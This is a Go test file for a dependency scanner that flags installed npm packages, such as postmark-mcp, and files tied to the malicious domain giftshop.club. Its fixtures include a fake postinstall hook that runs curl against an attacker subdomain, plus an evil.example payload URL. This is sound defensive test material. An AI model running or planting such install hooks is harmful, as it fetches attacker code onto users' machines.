package ioc

import (
	"bytes"
	"os"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/depsweep/depsweep/lockfiles"
)

func TestMatchInstalledNPM6Fixture(t *testing.T) {
	x := postmarkIndex(t)
	project := os.DirFS("../testdata/fixtures/npm6-direct-nested-lockv1")
	inv := &lockfiles.Inventory{
		Path:      "fx/package-lock.json",
		Importers: []lockfiles.Importer{{Path: ".", Name: "fx-npm6-direct", Version: "1.0.0", Deps: []lockfiles.Dep{{To: 0}}}},
		Packages: []lockfiles.Package{{Name: "postmark-mcp", Version: "1.0.16", Source: lockfiles.SourceRegistry,
			Paths: []string{"node_modules/postmark-mcp"}, Dev: false}},
	}
	got, errs := x.MatchInstalled("repo", "fx", project, inv)
	if len(errs) > 0 {
		t.Fatalf("MatchInstalled errors: %v", errs)
	}
	type row struct{ file, pkg, kind string }
	var rows []row
	for _, f := range got {
		rows = append(rows, row{f.Lockfile, f.Package.ID(), string(f.Indicator.Kind)})
	}
	want := []row{
		{"fx/node_modules/postmark-mcp/index.js", "postmark-mcp@1.0.16", "domain"},
		{"fx/node_modules/postmark-mcp/package.json", "postmark-mcp@1.0.16", "package"},
	}
	if !slices.Equal(rows, want) {
		t.Fatalf("MatchInstalled = %+v, want %+v", rows, want)
	}
	file, manifest := got[0], got[1]
	if file.Line != 10 || file.Severity != SeverityHigh {
		t.Errorf("index.js finding: Line %d Severity %s, want 10 high", file.Line, file.Severity)
	}
	if want := "fx/node_modules/postmark-mcp/index.js:10 mentions the domain giftshop.club (or a subdomain); also matches email indicator phan@giftshop.club"; file.Evidence != want {
		t.Errorf("index.js evidence = %q, want %q", file.Evidence, want)
	}
	if manifest.Severity != SeverityCritical || manifest.Package.Resolved == "" || manifest.Package.Integrity == "" {
		t.Errorf("manifest finding: %s resolved %q integrity %q", short(manifest), manifest.Package.Resolved, manifest.Package.Integrity)
	}
	for _, f := range got {
		if !f.Direct || !slices.Equal(f.Path, []string{"fx-npm6-direct@1.0.0", "postmark-mcp@1.0.16"}) {
			t.Errorf("%s: Direct %v Path %q, want the lockfile's path", f.Lockfile, f.Direct, f.Path)
		}
	}
	// Without an inventory the findings stand alone.
	alone, _ := x.MatchInstalled("repo", "fx", project, nil)
	if len(alone) != 2 || !slices.Equal(alone[0].Path, []string{"postmark-mcp@1.0.16"}) {
		t.Errorf("MatchInstalled(nil inventory) = %q paths %q", shorts(alone), alone[0].Path)
	}
}

func TestMatchInstalledLayouts(t *testing.T) {
	x := postmarkIndex(t)
	fsys := fstest.MapFS{
		// An alias directory, pnpm's virtual store, a scoped package, a git install.
		"node_modules/pm/package.json": {Data: []byte(`{"name":"postmark-mcp","version":"1.0.17"}`)},
		"node_modules/.pnpm/postmark-mcp@1.0.18/node_modules/postmark-mcp/package.json": {Data: []byte(`{"name":"postmark-mcp","version":"1.0.18"}`)},
		"node_modules/@acme/postmark-mcp/package.json":                                  {Data: []byte(`{"name":"@acme/postmark-mcp","version":"1.0.16"}`)},
		"node_modules/gitdep/package.json":                                              {Data: []byte(`{"name":"postmark-mcp","version":"1.0.16","_resolved":"git+https://github.com/ActiveCampaign/postmark-mcp.git#abc"}`)},
		// Publisher from an installed _npmUser.
		"node_modules/mcp-mail-relay/package.json": {Data: []byte(`{"name":"mcp-mail-relay","version":"2.1.0","_npmUser":{"name":"phanpak"}}`)},
		// File contents: text found, binary skipped, nested packages scanned as their own.
		"node_modules/left-pad/package.json":                    {Data: []byte(`{"name":"left-pad","version":"1.3.0","scripts":{"postinstall":"curl https://x.giftshop.club/i"}}`)},
		"node_modules/left-pad/lib/a.js":                        {Data: []byte("// clean\n")},
		"node_modules/left-pad/lib/blob.bin":                    {Data: []byte("\x00\x01giftshop.club")},
		"node_modules/left-pad/node_modules/inner/package.json": {Data: []byte(`{"name":"inner","version":"0.1.0"}`)},
		"node_modules/left-pad/node_modules/inner/x.js":         {Data: []byte("\n\nsend('phan@giftshop.club')")},
		"node_modules/broken/package.json":                      {Data: []byte(`{"name": 7}`)},
		"node_modules/.bin/postmark-mcp":                        {Data: []byte("giftshop.club")},
	}
	got, errs := x.MatchInstalled(".", ".", fsys, nil)
	var desc []string
	for _, f := range got {
		desc = append(desc, f.Lockfile+" "+short(f))
	}
	want := []string{
		"node_modules/.pnpm/postmark-mcp@1.0.18/node_modules/postmark-mcp/package.json postmark-mcp@1.0.18 package critical",
		"node_modules/gitdep/package.json postmark-mcp@1.0.16 package info collision",
		"node_modules/left-pad/node_modules/inner/x.js inner@0.1.0 domain high",
		"node_modules/left-pad/package.json left-pad@1.3.0 domain high",
		"node_modules/mcp-mail-relay/package.json mcp-mail-relay@2.1.0 publisher medium",
		"node_modules/pm/package.json postmark-mcp@1.0.17 package critical",
	}
	if !slices.Equal(desc, want) {
		t.Errorf("MatchInstalled =\n%s\nwant\n%s", strings.Join(desc, "\n"), strings.Join(want, "\n"))
	}
	if len(errs) != 1 || !strings.HasPrefix(errs[0].Error(), "node_modules/broken/package.json:1:") {
		t.Errorf("errors = %v, want one naming node_modules/broken/package.json:1:<col>", errs)
	}
	for _, f := range got {
		if f.Package.Name == "postmark-mcp" && f.Package.Version == "1.0.17" && f.Package.Alias != "pm" {
			t.Errorf("alias install: Alias = %q, want pm", f.Package.Alias)
		}
	}
}

// naiveMatchText is the reference for MatchText: every pattern searched
// on its own at every offset, with the same boundary rules.
func naiveMatchText(x *Index, b []byte) map[*Indicator]bool {
	out := map[*Indicator]bool{}
	lower := strings.ToLower(string(b))
	if len(lower) != len(b) {
		// ToLower changes length on invalid UTF-8; lower ASCII by hand.
		lb := make([]byte, len(b))
		for i, c := range b {
			if c >= 'A' && c <= 'Z' {
				c += 'a' - 'A'
			}
			lb[i] = c
		}
		lower = string(lb)
	}
	for _, p := range x.text.pats {
		for i := 0; i+len(p.text) <= len(lower); i++ {
			if lower[i:i+len(p.text)] == p.text && boundaryOK(b, p.kind, i, i+len(p.text)) {
				for _, ind := range p.inds {
					out[ind] = true
				}
			}
		}
	}
	return out
}

// FuzzMatchText checks the automaton against a naive search.
func FuzzMatchText(f *testing.F) {
	for _, s := range []string{"bcc: 'phan@giftshop.club'", "x.GIFTSHOP.club", "notgiftshop.club", "giftshop.club.evil",
		"https://evil.example/payloads/x", "phan@giftshop.clubphan@giftshop.club", "", "\x00giftshop.club"} {
		f.Add([]byte(s))
	}
	inds := append(postmarkIndicators(), Indicator{Kind: KindURL, Value: "https://evil.example/payloads/", Advisory: &Advisory{ID: "X"}},
		Indicator{Kind: KindDomain, Value: "shop.club", Advisory: &Advisory{ID: "Y"}},
		Indicator{Kind: KindEmail, Value: "an@giftshop.club", Advisory: &Advisory{ID: "Z"}})
	x, err := NewIndex(inds)
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		got := map[*Indicator]bool{}
		for _, ind := range x.MatchText(b) {
			if got[ind] {
				t.Fatalf("MatchText(%q) lists %s twice", b, ind)
			}
			got[ind] = true
		}
		want := naiveMatchText(x, b)
		if len(got) != len(want) {
			t.Fatalf("MatchText(%q) found %d indicators, naive search %d", b, len(got), len(want))
		}
		for ind := range want {
			if !got[ind] {
				t.Fatalf("MatchText(%q) misses %s", b, ind)
			}
		}
	})
}

// TestMatchInstalledBigFile: a file is searched in its first 16 MiB only,
// and a match near the start of a big file is found.
func TestMatchInstalledBigFile(t *testing.T) {
	x := postmarkIndex(t)
	big := bytes.Repeat([]byte("x = 1;\n"), maxScanBytes/7+1)
	head := append([]byte("a('giftshop.club')\n"), big...)
	tail := append(slices.Clone(big), []byte("\nb('giftshop.club')")...)
	fsys := fstest.MapFS{
		"node_modules/a/package.json": {Data: []byte(`{"name":"a","version":"1.0.0"}`)},
		"node_modules/a/head.js":      {Data: head},
		"node_modules/a/tail.js":      {Data: tail},
	}
	got, errs := x.MatchInstalled(".", ".", fsys, nil)
	var files []string
	for _, f := range got {
		files = append(files, f.Lockfile)
	}
	if want := []string{"node_modules/a/head.js"}; !slices.Equal(files, want) || len(errs) != 0 {
		t.Errorf("MatchInstalled files = %q (errors %v), want %q", files, errs, want)
	}
}
